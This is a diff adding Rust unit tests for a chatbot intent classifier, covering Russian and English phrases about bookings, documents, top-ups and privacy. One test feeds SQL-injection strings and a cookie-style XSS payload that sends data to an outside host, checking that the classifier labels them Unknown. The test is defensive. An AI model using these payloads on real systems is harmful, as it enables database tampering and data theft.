@@ -842,3 +842,75 @@ fn debug_tokens() {
         println!("{:?} {:?}", m, n.lexicon.rules[m.rule as usize].target);
     }
 }
+
+// ---- matching details ----
+
+#[test]
+fn stop_words_between_the_words_of_a_phrase_do_not_break_it() {
+    check_intents(&[
+        ("какие данные вы обо мне храните", Intent::Privacy),
+        ("какие у вас для меня есть скидки", Intent::Offers),
+    ]);
+}
+
+#[test]
+fn a_two_word_phrase_with_a_stop_word_is_not_read_backwards() {
+    assert_eq!(intent("recommend a good book"), Intent::Unknown);
+    assert_eq!(intent("book a massage"), Intent::Booking);
+}
+
+#[test]
+fn an_entity_alone_points_to_the_intent_that_likes_it_most() {
+    // A service supports a cancellation the words ask for, but alone it means a booking.
+    let c = classify("на маникюр");
+    assert_eq!(c.intent, Intent::Booking);
+    assert!(c.alternatives.iter().all(|(i, _)| *i != Intent::BookingCancel), "{:?}", c.alternatives);
+    assert_eq!(intent("отменить маникюр"), Intent::BookingCancel);
+    assert_eq!(intent("I need to reschedule my haircut with Oleg"), Intent::BookingReschedule);
+}
+
+#[test]
+fn a_context_word_for_a_document_counts_when_a_month_goes_with_it() {
+    let c = classify("ноябрьский счёт");
+    assert_eq!(c.intent, Intent::Documents);
+    assert_eq!(c.entities.doc_kind.as_deref(), Some("invoice"));
+    assert_eq!(c.entities.period.as_deref(), Some("2024-11"));
+    // Without a month the account is not a document.
+    let c = classify("пополнить счёт");
+    assert_eq!(c.intent, Intent::TopUp);
+    assert_eq!(c.entities.doc_kind, None);
+}
+
+#[test]
+fn code_and_markup_are_unknown_whatever_words_they_hold() {
+    for text in [
+        "SELECT * FROM orders WHERE id=1 OR 1=1",
+        "SELECT balance FROM accounts WHERE user_id = 7",
+        "'; DROP TABLE bookings; --",
+        "<script>document.location='http://x/?'+balance</script>",
+    ] {
+        let c = classify(text);
+        assert_eq!(c.intent, Intent::Unknown, "{text}");
+        assert_eq!(c.confidence, 1.0, "{text}");
+        assert!(c.alternatives.is_empty(), "{text}: {:?}", c.alternatives);
+    }
+    // Ordinary words that SQL also uses are not code.
+    assert_eq!(intent("delete my data from your database"), Intent::Privacy);
+}
+
+#[test]
+fn unknown_in_a_data_file_takes_only_patterns() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    write_embedded_copy(dir.path());
+    let path = dir.path().join("ru/intents.toml");
+    let text = std::fs::read_to_string(&path).expect("read");
+    std::fs::write(&path, format!("{text}\n[unknown]\nwords = [\"погода\"]\n")).expect("write");
+    match Nlu::from_dir(dir.path(), catalog()) {
+        Err(NluError::Data { file, message, .. }) => {
+            assert_eq!(file, "ru/intents.toml");
+            assert!(message.contains("unknown"), "{message}");
+        }
+        Err(other) => panic!("unexpected error: {other}"),
+        Ok(_) => panic!("wording for unknown loaded"),
+    }
+}
